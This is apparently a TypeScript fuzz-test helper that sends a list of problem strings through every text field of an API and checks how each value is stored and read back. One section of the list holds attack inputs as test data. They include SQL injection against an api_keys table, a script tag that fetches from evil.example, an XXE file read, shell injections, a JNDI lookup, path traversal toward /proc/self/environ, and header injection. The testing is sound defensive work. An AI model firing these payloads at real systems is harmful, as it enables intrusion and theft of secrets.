/** Texts on which programs are known to stumble, and every field of the API that takes a text. */

import { randomUUID } from "node:crypto";
import type { LightMyRequestResponse } from "fastify";
import { loregraphError } from "../../src/errors.ts";
import { listKeys, makeKey } from "../../src/keys/keys.ts";
import { storableText } from "../../src/store/storable.ts";
import type { Context } from "../../src/worker/context.ts";
import type { TestApp } from "./http.ts";

export const naughty: readonly string[] = [
  // Nothing, or as good as nothing.
  "",
  " ",
  "\t",
  "\n",
  "\r\n",
  "\u00a0",
  "\u2003\u2009",
  "\u200b",
  "\u2060",
  "\ufeff",
  "\u3164", // a Hangul filler: a letter that shows nothing
  "\u115f\u1160",
  "\u{e0001}\u{e0041}\u{e007f}", // tags

  // What Postgres cannot hold.
  "\0",
  "one\0two",
  "\ud83d",
  "\ude00 and on",
  "\udc00\ud800",

  // Words that mean something to a language.
  "null",
  "undefined",
  "true",
  "None",
  "nil",
  "NaN",
  "-Infinity",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "then",
  "[object Object]",
  "select",
  "CON",
  "nul.txt",
  "-rf",
  "--help",
  "~",
  "*",

  // Numbers and dates that are texts.
  "0",
  "-0",
  "00012",
  "1e309",
  "0x1F",
  "1_000",
  "1,5",
  "٣٫١٤",
  "½",
  "9007199254740993",
  "2026-02-30",
  "0000-00-00T00:00:00Z",

  // Quotes, escapes and formats.
  "'",
  '"',
  "`",
  "'''\"\"\"",
  "\\",
  "\\u0000",
  "\\x00\\0",
  "%",
  "%00",
  "%d%n%s%p",
  "{0} {{1}} #{2}",
  "«Rose»",
  "a\u2028b\u2029c",

  // Parts of other languages.
  "'); delete from entities; --",
  "1' union all select hash from api_keys where '1'='1",
  "<script>fetch('//evil.example')</script>",
  "<img src=x onerror=alert(1)>",
  "]]><!ENTITY x SYSTEM 'file:///etc/hostname'>&x;",
  "; cat /etc/hostname #",
  "$(id)",
  "=1+1",
  "@SUM(A1)",
  "jndi:ldap://evil.example/a",
  "..\\..\\windows\\win.ini",
  "../../../../proc/self/environ",
  "data: x\n\nevent: forged\n\n",
  "\r\nlocation: https://evil.example\r\n\r\n",

  // Control characters.
  "\u0001\u0002\u0003\u001f\u007f",
  "\u001b[2J\u001b[31mred",
  "\u001b]0;title\u0007",
  "\b\b\b\b",
  "\u0085\u009b",

  // Scripts, and how they are written.
  "שלום Mara عالم",
  "\u202egnp.exe\u202c",
  "\u2066\u2067\u2068 nested \u2069\u2069\u2069",
  "T\u0336\u0310h\u0334e\u0337\u0301 \u0322d\u0489a\u0315r\u0340k",
  `a${"\u0301".repeat(200)}`,
  "caf\u00e9",
  "cafe\u0301",
  "\u212b \u00c5 A\u030a",
  "\uac00 \u1100\u1161",
  "ﬁ ſ K İ ı ß ẞ ΐ",
  "ǅ ᾳ ŉ",
  "我喜欢你。你好",
  "ภาษาไทยไม่มีช่องว่าง",
  "नमस्ते क्षि",
  "😀👍🏽👩‍👩‍👧‍👦🏳️‍🌈🇫🇷#️⃣",
  "𝕸𝖆𝖗𝖆 𠜎 𐍈",
  "\ufffd\ufffe\uffff\u{10ffff}",
  "аdmin", // the first letter is Cyrillic

  // Long ones.
  "x".repeat(100),
  "😀".repeat(120),
  "( ".repeat(200),
  '"a" -b or '.repeat(30),
];

/** What became of a text: how it was answered, and how it read where it was read back. */
export type Outcome = {
  readonly status: number;
  readonly code?: string | undefined;
  /** What was read back, and what it was to be; absent where there is nothing to read. */
  readonly back?: readonly [read: unknown, expected: unknown];
};

/** A place that takes a text. */
export type Field = { readonly name: string; readonly put: (text: string) => Promise<Outcome> };

/** All places that take a text. Each may be tried beside the others. */
export function textFields(context: Context, api: TestApp): readonly Field[] {
  const at = { admin: `/admin/tenants/${api.tenant}`, own: `/tenants/${api.tenant}` };
  return [
    ...entityFields(api, at),
    ...webhookFields(api, at),
    flag(api, at),
    ...keys(api, at),
    ...filters(api, at),
    keyName(context),
  ];
}

type At = { readonly admin: string; readonly own: string };
type Body = Readonly<Record<string, unknown>>;

/** Of an entity, NUL and lone surrogates are taken out, which is documented; nothing else is. */
function entityFields({ ask, keys }: TestApp, { own }: At): readonly Field[] {
  const field = (name: string, body: (text: string) => Body, kept = storableText): Field => ({
    name: `entity: ${name}`,
    async put(text) {
      const url = `${own}/entities/lore/${randomUUID()}`;
      const answer = await ask({ method: "PUT", url, ...json(body(text)) }, keys.write);
      return await readBack(answer, body(kept(text)), () => ask({ url }, keys.read));
    },
  });
  return [
    field("title", (title) => ({ title })),
    field("text", (text) => ({ text })),
    field("metadata value", (text) => ({ metadata: { a: [{ b: text }] } })),
    field("metadata key", (text) => ({ metadata: { [text]: 1 } })),
    field("parent", (text) => ({ metadata: { parent_id: text } })),
    field(
      "source",
      (source) => ({ source }),
      (source) => source,
    ),
  ];
}

function webhookFields({ ask, keys }: TestApp, { own }: At): readonly Field[] {
  const field = (name: string, body: (text: string) => Body): Field => ({
    name: `webhook: ${name}`,
    async put(text) {
      const sent = json({ url: "https://subscriber.example/", ...body(text) });
      const answer = await ask({ method: "POST", url: `${own}/webhooks`, ...sent }, keys.write);
      if (answer.statusCode !== 201) return outcomeOf(answer);
      const url = `${own}/webhooks/${answer.json().id}`;
      const outcome = await readBack(answer, body(text), () => ask({ url }, keys.read));
      await ask({ method: "DELETE", url }, keys.write);
      return outcome;
    },
  });
  return [
    field("description", (description) => ({ description })),
    field("path", (text) => ({ url: `https://subscriber.example/${text}` })),
    field("host", (text) => ({ url: `https://${text}/` })),
    field("event", (text) => ({ events: [text] })),
  ];
}

function flag({ ask, keys }: TestApp, { admin: url }: At): Field {
  const set = (name: string, value: true | null) =>
    ask({ method: "PATCH", url, ...json({ flags: { [name]: value } }) }, keys.admin);
  return {
    name: "flag",
    async put(text) {
      const outcome = await readBack(await set(text, true), { flags: { [text]: true } }, () =>
        ask({ url }, keys.read),
      );
      await set(text, null);
      return outcome;
    },
  };
}

/** The names that a client gives to one request. */
function keys({ ask, keys }: TestApp, { admin }: At): readonly Field[] {
  return [
    {
      name: "reingest key",
      async put(key) {
        const sent = json({ key, ids: [randomUUID()] });
        const answer = await ask({ method: "POST", url: `${admin}/reingest`, ...sent }, keys.write);
        const url = () => `${admin}/reingests/${answer.json().id}`;
        return await readBack(answer, { idempotency_key: key }, () => ask({ url: url() }, keys.read));
      },
    },
    {
      name: "Idempotency-Key",
      async put(text) {
        const { headers, payload } = json({ weight: 1 });
        const named = { ...headers, "idempotency-key": Buffer.from(text).toString("latin1") };
        const send = () => ask({ method: "PATCH", url: admin, headers: named, payload }, keys.admin);
        const [first, second] = [await send(), await send()];
        const replayed = second.headers["idempotency-replayed"];
        return { ...outcomeOf(first), ...(first.statusCode < 400 && { back: [replayed, "true"] }) };
      },
    },
  ];
}

/** Where a text chooses among what there is: there is nothing to read back. */
function filters({ ask, keys }: TestApp, { admin, own }: At): readonly Field[] {
  const asked: Readonly<Record<string, (escapedText: string, text: string) => string>> = {
    "search: q": (q) => `${own}/search?q=${q}`,
    "runs: pipeline": (name) => `${admin}/runs?pipeline=${name}`,
    "runs: cursor": (_, text) => `${admin}/runs?cursor=${cursorOf(text)}`,
    "dead letters: pipeline": (name) => `${admin}/dead-letters?pipeline=${name}`,
    "dead letters: cause": (cause) => `${admin}/dead-letters?cause=${cause}`,
    "events: event": (event) => `${own}/events?event=${event}`,
    "events: after": (after) => `${own}/events?after=${after}`,
    "entities: cursor": (cursor) => `${own}/entities?cursor=${cursor}`,
    "entities: encoded cursor": (_, text) => `${own}/entities?cursor=${cursorOf(text)}`,
    "pipeline: name": (name) => `/admin/pipelines/${name}`,
    "no route": (name) => `/no/${name}`,
  };
  return Object.entries(asked).map(([name, urlOf]) => ({
    name,
    put: async (text) => outcomeOf(await ask({ url: urlOf(escaped(text), text) }, keys.admin)),
  }));
}

function keyName({ pool }: Context): Field {
  return {
    name: "key: name",
    async put(name) {
      const made = makeKey(pool, { name, scope: "admin", tenant_id: null });
      const [tried] = await Promise.allSettled([made]);
      if (tried.status === "rejected") return { status: 400, code: loregraphError(tried.reason)?.code };
      const { key } = tried.value;
      const read = (await listKeys(pool)).find(({ id }) => id === key.id);
      return { status: 200, back: [read?.name, name] };
    },
  };
}

function json(body: unknown) {
  return { headers: { "content-type": "application/json" }, payload: JSON.stringify(body) };
}

/** As a client escapes it: half a surrogate pair as the three bytes that some make of it. */
function escaped(text: string): string {
  return Array.from(text, (one) => (one.isWellFormed() ? encodeURIComponent(one) : "%ED%A0%80")).join("");
}

function cursorOf(position: unknown): string {
  return Buffer.from(JSON.stringify(position)).toString("base64url");
}

function outcomeOf(answer: LightMyRequestResponse): Outcome {
  const { statusCode: status } = answer;
  return status < 400 ? { status } : { status, code: answer.json().code };
}

/** Where it was taken, what is expected beside what is there. */
async function readBack(
  answer: LightMyRequestResponse,
  expected: Body,
  read: () => PromiseLike<LightMyRequestResponse>,
): Promise<Outcome> {
  if (answer.statusCode >= 400) return outcomeOf(answer);
  const there: Body = (await read()).json();
  const same = Object.keys(expected).map((name) => [name, there[name]]);
  return { status: answer.statusCode, back: [Object.fromEntries(same), expected] };
}
